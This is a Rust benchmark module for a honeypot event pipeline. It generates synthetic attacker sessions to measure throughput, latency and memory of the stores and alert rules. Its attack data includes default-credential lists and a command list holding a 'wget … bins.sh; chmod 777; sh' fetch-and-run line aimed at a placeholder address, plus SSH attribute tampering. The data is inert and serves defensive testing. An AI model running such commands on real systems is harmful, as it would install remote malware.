//! `hpti bench`: load generators that measure the real components.

use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use hdrhistogram::Histogram;
use hpti_core::ack::{AckBatch, AckReceiver, DeliveryStatus};
use hpti_core::event::{AuthMethod, Event, EventKind, Protocol, Timestamp};
use hpti_core::metrics::PipelineMetrics;
use hpti_core::pipeline::Envelope;
use hpti_store::{EventQueries, SqliteStore};
use prometheus_client::registry::Registry;
use serde::Serialize;
use sha2::{Digest, Sha256};
use tokio::sync::mpsc;

use crate::config::Config;

mod api_load;
mod canary;
mod dashboard_load;
mod ftp;
mod http;
#[cfg(feature = "nats")]
mod nats;
#[cfg(feature = "postgres")]
mod postgres_bench;
mod queries;
mod rule_cost;
mod rule_memory;
mod soak;
mod ssh;

#[derive(Debug, clap::Subcommand)]
pub enum BenchCommand {
    /// Synthetic attack traffic through the real pipeline into fresh stores (a SQLite
    /// file, a new PostgreSQL database, or both).
    Pipeline(PipelineArgs),
    /// Fills a store with synthetic attack traffic spread over a span of days, then times
    /// each analyst query (`hpti query ...`) all-time and over the last 24 hours: p50 and
    /// p95 of repeated runs, as JSON.
    Queries(queries::QueriesArgs),
    /// SSH load: connections/s and latency of key exchange + login (+ a command), or the
    /// memory of idle sessions; against `--addr` or a sensor it starts (`--spawn-sensor`).
    Ssh(ssh::SshArgs),
    /// FTP load: sessions/s and latency of login + passive LIST + QUIT, against `--addr`
    /// or a sensor it starts (`--spawn-sensor`).
    Ftp(ftp::FtpArgs),
    /// HTTP load: requests/s and latency over keep-alive connections, against `--addr`
    /// (OpenCanary, a real server) or a sensor it starts (`--spawn-sensor`) that stores
    /// every request.
    Http(http::HttpArgs),
    /// Hostile traffic (SSH, SCP floods, Telnet, slowloris, garbage) against a child
    /// `hpti run` for minutes or hours: its memory and open files over time, and what
    /// its log and counters show.
    Soak(soak::SoakArgs),
    /// A frequency rule's memory with many distinct keys (1 M by default), under its
    /// `max_keys` cap and, for comparison, with a cap as large as the key count.
    RuleMemory(rule_memory::RuleMemoryArgs),
    /// What the rules of a directory cost per event, alone on one thread (and each rule
    /// alone with `--per-rule`), over the traffic of `bench pipeline`.
    RuleCost(rule_cost::RuleCostArgs),
    /// The SSH sensor of `bench ssh --spawn-sensor process` (internal).
    #[command(hide = true)]
    SshSensor(ssh::SshSensorArgs),
    /// Distributed mode: edge (outbox, `nats` sink) → JetStream → center processes
    /// (`nats` source, the configured enrichers, SQLite); throughput, edge-to-durable
    /// latency (`--rate`), the outbox's drain (`--backlog`), `--centers 2` against 1.
    #[cfg(feature = "nats")]
    Nats(nats::NatsArgs),
    #[cfg(feature = "nats")]
    #[command(hide = true)]
    NatsCenter(nats::NatsCenterArgs),
}

#[derive(Debug, clap::Args)]
pub struct PipelineArgs {
    /// Events to send.
    #[arg(long, default_value_t = 100_000)]
    events: u64,
    /// Steady rate in events per second; as fast as possible when absent.
    #[arg(long)]
    rate: Option<u64>,
    /// Database file to create (replaced if present); a temporary file by default.
    #[arg(long)]
    db: Option<PathBuf>,
    /// Seed of the synthetic traffic.
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// Session ids: `time-ordered` as hpti's sensors make them, or `random` as Cowrie's
    /// logs carry them (12 random hex digits).
    #[arg(long, value_enum, default_value_t = SessionIds::TimeOrdered)]
    session_ids: SessionIds,
    /// The sinks every event goes to, comma-separated: `sqlite`, `postgres`, `redis`. A
    /// PostgreSQL sink writes into a new database on the server at `--postgres-url`,
    /// dropped afterwards; a Redis sink under a key prefix of its own at `--redis-url`,
    /// deleted afterwards (it is best-effort: `dropped_per_sink` says what it shed).
    #[arg(long, value_enum, value_delimiter = ',', default_value = "sqlite")]
    sink: Vec<BenchSink>,
    /// A PostgreSQL server and a database on it to connect to while creating the bench's
    /// own (default: `HPTI_POSTGRES_URL`, else postgres://postgres@127.0.0.1:5432/postgres).
    #[arg(long)]
    postgres_url: Option<String>,
    /// The Redis server of a `redis` sink (default: `HPTI_REDIS_URL`, else
    /// redis://127.0.0.1:6379).
    #[cfg(feature = "redis")]
    #[arg(long)]
    redis_url: Option<String>,
    /// Alert rules to run beside the sinks: the rule files (`*.yml`) of this directory,
    /// with the alert manager keeping their alerts in the bench's directory (no
    /// notifier). `scripts/bench-rules.py DIR` writes the mix of 100.
    #[arg(long)]
    rules: Option<PathBuf>,
    /// Measures event → notifier latency: a canary event every 10 ms among the traffic,
    /// a `type: any` rule raising an alert for each, sent with `group_wait = 0s` to a
    /// webhook receiver in this process (with `--rate`).
    #[arg(long, requires = "rate")]
    alert_latency: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
enum BenchSink {
    Sqlite,
    #[cfg(feature = "postgres")]
    Postgres,
    #[cfg(feature = "redis")]
    Redis,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
enum SessionIds {
    TimeOrdered,
    Random,
}

#[derive(Debug, Serialize)]
struct PipelineResult {
    bench: &'static str,
    events: u64,
    stored: u64,
    rate_target: Option<u64>,
    session_ids: SessionIds,
    sinks: Vec<BenchSink>,
    /// Events each sink holds at the end (for Redis: what it was delivered).
    stored_per_sink: Vec<u64>,
    /// Events a best-effort sink dropped because it fell behind.
    dropped_per_sink: Vec<u64>,
    seconds: f64,
    events_per_sec: f64,
    p50_latency_ms: f64,
    p99_latency_ms: f64,
    max_latency_ms: f64,
    peak_rss_mb: f64,
    db_mb: f64,
    batch_size: usize,
    linger_ms: u128,
    geoip: bool,
    /// Rules loaded (`--rules`), counting each Sigma rule.
    #[serde(skip_serializing_if = "Option::is_none")]
    rules: Option<usize>,
    /// Alerts they raised.
    #[serde(skip_serializing_if = "Option::is_none")]
    alerts: Option<u64>,
    /// Events the rules did not see because their queue was full (the sinks never wait
    /// for the rules).
    #[serde(skip_serializing_if = "Option::is_none")]
    rule_events_dropped: Option<u64>,
    /// Event → notifier request latency of the canaries (`--alert-latency`).
    #[serde(skip_serializing_if = "Option::is_none")]
    alert_latency: Option<canary::AlertLatency>,
}

pub async fn bench(config: &Config, command: BenchCommand) -> anyhow::Result<()> {
    match command {
        BenchCommand::Pipeline(args) => {
            let result = pipeline(config, &args).await?;
            println!("{}", serde_json::to_string(&result)?);
            Ok(())
        }
        BenchCommand::Queries(args) => queries::queries(config, &args).await,
        BenchCommand::Ssh(args) => ssh::ssh(config, &args).await,
        BenchCommand::Ftp(args) => ftp::ftp(config, &args).await,
        BenchCommand::Http(args) => http::http(config, &args).await,
        BenchCommand::Soak(args) => soak::soak(&args).await,
        BenchCommand::RuleMemory(args) => rule_memory::rule_memory(&args),
        BenchCommand::RuleCost(args) => rule_cost::rule_cost(&args),
        BenchCommand::SshSensor(args) => ssh::ssh_sensor(config, &args).await,
        #[cfg(feature = "nats")]
        BenchCommand::Nats(args) => nats::nats(config, &args).await,
        #[cfg(feature = "nats")]
        BenchCommand::NatsCenter(args) => nats::nats_center(config, &args).await,
    }
}

/// A bench sink, and its query side when it has one.
type BenchStore = (
    Arc<dyn hpti_core::sink::Sink>,
    Option<Arc<dyn EventQueries>>,
);

/// The component id a bench sink runs under.
fn sink_id(sink: BenchSink) -> &'static str {
    match sink {
        BenchSink::Sqlite => "main",
        #[cfg(feature = "postgres")]
        BenchSink::Postgres => "pg",
        #[cfg(feature = "redis")]
        BenchSink::Redis => "redis",
    }
}

/// Deletes the keys a bench's Redis sink wrote (under its own prefix).
#[cfg(feature = "redis")]
async fn remove_redis_keys(sink: &hpti_store::RedisSinkConfig) {
    let Some(url) = &sink.url else { return };
    let Ok(client) = redis::Client::open(url.expose()) else {
        return;
    };
    let Ok(mut connection) = client.get_multiplexed_async_connection().await else {
        return;
    };
    let keys: Vec<String> = redis::cmd("KEYS")
        .arg(format!("{}:*", sink.prefix))
        .query_async(&mut connection)
        .await
        .unwrap_or_default();
    for chunk in keys.chunks(1000) {
        let _ = redis::cmd("DEL")
            .arg(chunk)
            .query_async::<()>(&mut connection)
            .await;
    }
}

/// Peak resident set size of this process, from `/proc/self/status` (Linux).
pub fn peak_rss_mb() -> f64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|status| {
            status
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<f64>().ok())
        })
        .map_or(0.0, |kib| kib / 1024.0)
}

async fn pipeline(config: &Config, args: &PipelineArgs) -> anyhow::Result<PipelineResult> {
    let tempdir = tempdir_for_bench()?;
    let db = args.db.clone().unwrap_or_else(|| tempdir.join("bench.db"));
    for suffix in ["", "-wal", "-shm"] {
        let mut path = db.clone().into_os_string();
        path.push(suffix);
        let _ = std::fs::remove_file(PathBuf::from(path));
    }
    anyhow::ensure!(!args.sink.is_empty(), "--sink names no sink");
    let mut stores: Vec<BenchStore> = Vec::new();
    let mut sqlite = None;
    #[cfg(feature = "postgres")]
    let mut postgres = None;
    #[cfg(feature = "redis")]
    let mut redis: Option<hpti_store::RedisSinkConfig> = None;
    for sink in &args.sink {
        match sink {
            BenchSink::Sqlite => {
                let store = SqliteStore::open(hpti_store::SqliteOptions::new(db.clone()))
                    .await
                    .context("cannot create the bench database")?;
                stores.push((Arc::new(store.clone()), Some(Arc::new(store.clone()))));
                sqlite = Some(store);
            }
            #[cfg(feature = "postgres")]
            BenchSink::Postgres => {
                let database =
                    postgres_bench::BenchDatabase::create(args.postgres_url.as_deref()).await?;
                let store = hpti_store::PostgresStore::open(hpti_store::PostgresOptions::new(
                    &database.url,
                )?)
                .await
                .with_context(|| format!("cannot open {}", database.name))?;
                stores.push((Arc::new(store.clone()), Some(Arc::new(store.clone()))));
                postgres = Some((store, database));
            }
            #[cfg(feature = "redis")]
            BenchSink::Redis => {
                let url = args
                    .redis_url
                    .clone()
                    .or_else(|| std::env::var("HPTI_REDIS_URL").ok())
                    .unwrap_or_else(|| "redis://127.0.0.1:6379".into());
                let prefix = format!("hpti_bench_{}", std::process::id());
                let cx = config.build_context(
                    &hpti_core::component::ComponentId::new("redis")?,
                    &PipelineMetrics::default(),
                );
                let sink_config = hpti_store::RedisSinkConfig {
                    url: Some(hpti_core::secret::Secret::new(url)),
                    prefix: prefix.clone(),
                    ..hpti_store::RedisSinkConfig::default()
                };
                let options = sink_config
                    .options(&cx)
                    .map_err(|e| anyhow::anyhow!("{e}"))?;
                let store = hpti_store::RedisSink::open(options).await;
                stores.push((Arc::new(store), None));
                redis = Some(sink_config);
            }
        }
    }
    // The configured pipeline (enrichers included), with its dead letters kept apart.
    let mut config = config.clone();
    config.pipeline.dead_letter_file = tempdir.join("dead-letters.jsonl");
    let batch = config.pipeline_config().batch;
    let components = config.components()?;
    let enrichers = !components.enrichers.is_empty();
    let mut registry = Registry::default();
    let mut builder = config
        .enriched(&components, PipelineMetrics::new(&mut registry))
        .await?;
    for (sink, (store, _)) in args.sink.iter().zip(&stores) {
        builder = builder.sink(
            hpti_core::component::ComponentId::new(sink_id(*sink))?,
            store.clone(),
        );
    }
    let mut rule_count = None;
    let mut manager = None;
    let mut canary = None;
    if args.rules.is_some() || args.alert_latency {
        let mut specs = match &args.rules {
            Some(dir) => hpti_alert::rules::load_rules(&["*.yml".to_owned()], dir)?,
            None => Vec::new(),
        };
        let mut notifiers = std::collections::BTreeMap::new();
        if args.alert_latency {
            let probe = canary::Canary::start().await?;
            let cx = config.build_context(
                &hpti_core::component::ComponentId::new(canary::NOTIFIER)?,
                &PipelineMetrics::default(),
            );
            notifiers.insert(canary::NOTIFIER.to_owned(), probe.notifier(&cx).await?);
            specs.push(canary::Canary::rule()?);
            canary = Some(probe);
        }
        let options = hpti_alert::rules::RuleOptions {
            clock: hpti_alert::rules::ClockMode::Live,
            state_dir: Some(tempdir.join("alerting")),
        };
        let mut count = 0;
        let routes = specs
            .iter()
            .map(|s| (s.name.clone(), hpti_alert::manager::Route::of(s)))
            .collect();
        let mut rules = Vec::new();
        for spec in specs {
            count += match spec.rule_type {
                hpti_alert::rules::RuleType::Sigma => spec.sigma.len(),
                _ => 1,
            };
            rules.push(hpti_alert::rules::YamlRule::new(spec, &options));
        }
        builder = builder.rule(Box::new(hpti_alert::rules::RuleSet::new(rules)));
        // The canary is not one of the rules measured.
        rule_count = Some(count - usize::from(args.alert_latency));
        let store = hpti_store::SqliteAlertStore::open(&tempdir.join("bench-alerts.db")).await?;
        let (sender, receiver) = mpsc::channel(4096);
        builder = builder.alerts_to(sender);
        let config = hpti_alert::manager::ManagerConfig {
            routes,
            group_wait: Duration::ZERO,
            ..hpti_alert::manager::ManagerConfig::default()
        };
        manager = Some(
            hpti_alert::manager::AlertManager::new(config, notifiers, Arc::new(store))
                .start(receiver),
        );
    }
    let pipeline = builder.start()?;

    let (pending_tx, pending_rx) = mpsc::channel::<(Instant, u64, AckReceiver)>(4096);
    let latency = tokio::spawn(track_latency(pending_rx));
    let emitter = pipeline.emitter();
    let mut traffic = Traffic::new(args.seed, args.session_ids);
    let started = Instant::now();
    match args.rate {
        None => {
            const PER_ACK: u64 = 256;
            let mut sent = 0;
            while sent < args.events {
                let n = PER_ACK.min(args.events - sent);
                let (ack, receiver) = AckBatch::new();
                let created = Instant::now();
                for _ in 0..n {
                    let envelope = Envelope {
                        event: traffic.next_event(),
                        ack: Some(ack.clone()),
                        origin: None,
                    };
                    emitter.emit_envelope(envelope).await?;
                }
                drop(ack);
                pending_tx.send((created, n, receiver)).await?;
                sent += n;
            }
        }
        Some(rate) => {
            anyhow::ensure!(rate > 0, "--rate must be positive");
            // One tick a millisecond; each tick sends what the schedule owes so far.
            let mut ticker = tokio::time::interval(Duration::from_millis(1));
            ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
            let mut sent = 0u64;
            let mut next_canary = Duration::ZERO;
            while sent < args.events {
                ticker.tick().await;
                if let Some(canary) = &mut canary
                    && started.elapsed() >= next_canary
                {
                    next_canary += CANARY_EVERY;
                    emitter
                        .emit_envelope(Envelope {
                            event: canary.event(),
                            ack: None,
                            origin: None,
                        })
                        .await?;
                }
                let due = ((started.elapsed().as_secs_f64() * rate as f64) as u64).min(args.events);
                if due <= sent {
                    continue;
                }
                let n = due - sent;
                let (ack, receiver) = AckBatch::new();
                let created = Instant::now();
                for _ in 0..n {
                    emitter
                        .emit_envelope(Envelope {
                            event: traffic.next_event(),
                            ack: Some(ack.clone()),
                            origin: None,
                        })
                        .await?;
                }
                drop(ack);
                pending_tx.send((created, n, receiver)).await?;
                sent = due;
            }
        }
    }
    drop(pending_tx);
    drop(emitter);
    let histogram = latency.await?;
    let seconds = started.elapsed().as_secs_f64();
    let stats = pipeline.shutdown().await;
    let alert_stats = match manager {
        Some(manager) => Some(manager.finish().await),
        None => None,
    };
    let alert_latency = canary.map(canary::Canary::finish);
    let rule_events_dropped = args.rules.as_ref().map(|_| {
        registry_counter(
            &registry,
            "hpti_events_total",
            "stage=\"alert\"",
            "outcome=\"dropped\"",
        )
    });
    let mut stored_per_sink = Vec::new();
    let mut dropped_per_sink = Vec::new();
    for (sink, (_, queries)) in args.sink.iter().zip(&stores) {
        let id = hpti_core::component::ComponentId::new(sink_id(*sink))?;
        let counted = stats.sinks.get(&id).copied().unwrap_or_default();
        stored_per_sink.push(match queries {
            Some(queries) => queries.count_events().await?,
            None => counted.delivered,
        });
        dropped_per_sink.push(counted.dropped);
    }
    let stored = stored_per_sink.iter().copied().min().unwrap_or(0);
    drop(stores);
    if let Some(store) = sqlite {
        store.close().await;
    }
    #[cfg(feature = "postgres")]
    if let Some((store, database)) = postgres {
        store.close().await;
        database.remove().await;
    }
    #[cfg(feature = "redis")]
    if let Some(sink_config) = redis {
        remove_redis_keys(&sink_config).await;
    }
    let db_bytes: u64 = ["", "-wal"]
        .iter()
        .filter_map(|suffix| {
            let mut path = db.clone().into_os_string();
            path.push(suffix);
            std::fs::metadata(PathBuf::from(path)).ok()
        })
        .map(|m| m.len())
        .sum();
    if args.db.is_none() {
        let _ = std::fs::remove_dir_all(&tempdir);
    }
    let ms = |micros: u64| micros as f64 / 1000.0;
    Ok(PipelineResult {
        bench: "pipeline",
        events: args.events,
        stored,
        rate_target: args.rate,
        session_ids: args.session_ids,
        sinks: args.sink.clone(),
        stored_per_sink,
        dropped_per_sink,
        seconds,
        events_per_sec: args.events as f64 / seconds,
        p50_latency_ms: ms(histogram.value_at_quantile(0.50)),
        p99_latency_ms: ms(histogram.value_at_quantile(0.99)),
        max_latency_ms: ms(histogram.max()),
        peak_rss_mb: peak_rss_mb(),
        db_mb: db_bytes as f64 / 1_048_576.0,
        batch_size: batch.max_events,
        linger_ms: batch.linger.as_millis(),
        geoip: enrichers,
        rules: rule_count,
        alerts: alert_stats.map(|a| a.received),
        rule_events_dropped,
        alert_latency,
    })
}

/// How often `--alert-latency` sends a canary.
const CANARY_EVERY: Duration = Duration::from_millis(10);

/// The value of a counter series in the registry's text exposition: the line of `name`
/// with every one of `labels` (0 when there is none).
fn registry_counter(registry: &Registry, name: &str, a: &str, b: &str) -> u64 {
    let mut text = String::new();
    if prometheus_client::encoding::text::encode(&mut text, registry).is_err() {
        return 0;
    }
    text.lines()
        .filter(|l| l.starts_with(name) && l.contains(a) && l.contains(b))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .map(|v| v as u64)
        .sum()
}

fn tempdir_for_bench() -> anyhow::Result<PathBuf> {
    let dir = std::env::temp_dir().join(format!("hpti-bench-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    Ok(dir)
}

/// Latency of each acknowledgement batch, from the creation of its first event until it
/// is durable, recorded once per event of the batch (microseconds).
async fn track_latency(mut pending: mpsc::Receiver<(Instant, u64, AckReceiver)>) -> Histogram<u64> {
    let mut histogram = Histogram::<u64>::new(3).unwrap_or_else(|_| unreachable_histogram());
    let mut failed = 0u64;
    while let Some((created, events, receiver)) = pending.recv().await {
        if receiver.await != DeliveryStatus::Delivered {
            failed += events;
        }
        let micros = u64::try_from(created.elapsed().as_micros()).unwrap_or(u64::MAX);
        let _ = histogram.record_n(micros.max(1), events);
    }
    if failed > 0 {
        tracing::error!(failed, "events were not delivered");
    }
    histogram
}

fn unreachable_histogram() -> Histogram<u64> {
    // `new(3)` only fails for more than 5 significant digits.
    Histogram::<u64>::new(1).unwrap_or_else(|_| std::process::abort())
}

const USERNAMES: &[&str] = &[
    "root", "admin", "ubuntu", "user", "test", "oracle", "pi", "postgres", "git", "support",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "admin",
    "password",
    "root",
    "1234",
    "12345678",
    "qwerty",
    "toor",
    "raspberry",
    "P@ssw0rd",
    "111111",
    "admin123",
];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "whoami",
    "lscpu | grep Model",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "echo -e \"\\x61\\x75\\x74\\x68\"",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
];
const CLIENTS: &[&str] = &[
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-PUTTY",
];

/// Synthetic honeypot traffic with the shape of the real thing: sessions from a pool of
/// recurring attacker addresses, a handshake, a run of login attempts, and for the
/// sessions that get in, commands and an occasional download.
struct Traffic {
    rng: fastrand::Rng,
    queue: std::collections::VecDeque<Event>,
    session_ids: SessionIds,
    /// Synthetic time (next event's time and the step between events), instead of now.
    clock: Option<(Timestamp, i64)>,
}

impl Traffic {
    fn new(seed: u64, session_ids: SessionIds) -> Self {
        Self {
            rng: fastrand::Rng::with_seed(seed),
            queue: std::collections::VecDeque::with_capacity(64),
            session_ids,
            clock: None,
        }
    }

    /// Events timed from `start` on, `step_micros` apart, instead of at the present.
    fn with_clock(mut self, start: Timestamp, step_micros: i64) -> Self {
        self.clock = Some((start, step_micros));
        self
    }

    fn next_event(&mut self) -> Event {
        loop {
            if let Some(event) = self.queue.pop_front() {
                let time = match &mut self.clock {
                    Some((next, step)) => {
                        let time = *next;
                        *next = next.saturating_add_micros(*step);
                        time
                    }
                    None => Timestamp::now(),
                };
                return event.with_time(time);
            }
            self.new_session();
        }
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.rng.usize(..items.len())]
    }

    fn new_session(&mut self) {
        let session = match self.session_ids {
            SessionIds::TimeOrdered => hpti_core::event::EventId::new().to_string(),
            SessionIds::Random => format!("{:012x}", self.rng.u64(..) >> 16),
        };
        // 5,000 recurring attackers, spread over public-looking /8s.
        let attacker = self.rng.u32(..5000);
        let ip = IpAddr::from([
            [45, 61, 80, 103, 118, 141, 185, 193, 218, 222][(attacker % 10) as usize],
            (attacker / 10 % 256) as u8,
            (attacker * 7 % 256) as u8,
            (attacker % 250 + 1) as u8,
        ]);
        let port = self.rng.u16(1024..65535);
        let sensor = ["ssh-eu-1", "ssh-us-1", "telnet-eu-1"][self.rng.usize(..3)];
        let protocol = if sensor.starts_with("telnet") {
            Protocol::Telnet
        } else {
            Protocol::Ssh
        };
        let dst = IpAddr::from([192, 0, 2, 10]);
        let make = |kind: EventKind| {
            Event::new(sensor, protocol.clone(), ip, kind)
                .with_session(session.clone())
                .with_source_port(port)
                .with_destination(dst, 22)
        };
        self.queue.push_back(make(EventKind::SessionStarted));
        let client = self.pick(CLIENTS).to_owned();
        self.queue
            .push_back(make(EventKind::ClientVersion { version: client }));
        let attempts = 1 + self.rng.usize(..6);
        let success = self.rng.u8(..100) < 30;
        for attempt in 0..attempts {
            let username = self.pick(USERNAMES).to_owned();
            let password = self.pick(PASSWORDS).to_owned();
            self.queue.push_back(make(EventKind::LoginAttempt {
                username,
                password: Some(password),
                key_type: None,
                key_fingerprint: None,
                method: AuthMethod::Password,
                success: success && attempt + 1 == attempts,
            }));
        }
        if success {
            for _ in 0..self.rng.usize(1..8) {
                let command = self.pick(COMMANDS).to_owned();
                self.queue
                    .push_back(make(EventKind::CommandInput { command }));
            }
            if self.rng.u8(..100) < 20 {
                let sample = self.rng.u8(..50);
                let digest = Sha256::digest([sample]);
                let sha256 = digest
                    .iter()
                    .map(|b| format!("{b:02x}"))
                    .collect::<String>();
                self.queue.push_back(make(EventKind::FileDownload {
                    url: format!("http://203.0.113.{}/bins/x86_{sample}", sample % 20 + 1),
                    sha256: Some(sha256),
                    size: Some(40_000 + u64::from(sample) * 1000),
                    error: None,
                }));
            }
        }
        let duration_ms = self.rng.u64(200..120_000);
        self.queue.push_back(make(EventKind::SessionClosed {
            duration_ms,
            recording: None,
        }));
    }
}
